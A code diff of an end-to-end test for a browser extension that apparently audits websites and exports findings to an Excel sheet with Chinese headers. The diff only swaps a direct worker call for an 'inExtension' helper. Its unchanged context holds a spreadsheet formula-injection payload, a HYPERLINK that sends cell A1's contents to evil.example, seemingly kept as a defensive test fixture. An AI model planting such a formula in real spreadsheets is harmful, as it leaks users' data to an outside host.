@@ -9,7 +9,7 @@ import { join } from 'node:path';
 import ExcelJS from 'exceljs';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import type { Page } from 'playwright-core';
-import { fixture, launch, serve, storedFindings, waitFor, type Browser, type Site } from './harness';
+import { fixture, launch, serve, storedFindings, waitFor, type Browser, type Site, inExtension } from './harness';
 
 const EVIL = '=HYPERLINK("http://evil.example/steal?d="&A1,"点此查看")';
 const HEADERS = ['序号', '网站', '栏目', '页面标题', '页面地址', '问题类型', '级别', '问题描述', '原文摘录', '修改建议', '发现时间', '最近检查', '状态', '备注'];
@@ -27,7 +27,7 @@ beforeAll(async () => {
   site = await serve(PAGES);
   b = await launch();
   // This test counts the page findings; the link pass (its own e2e test) would add more as it goes.
-  await b.worker.evaluate(async () => (globalThis as any).chrome.storage.local.set({ config: { profile: 'daily', rules: { 'link/broken': 'off' } } }));
+  await inExtension(b, async () => (globalThis as any).chrome.storage.local.set({ config: { profile: 'daily', rules: { 'link/broken': 'off' } } }), null);
 });
 afterAll(async () => {
   await b?.close();
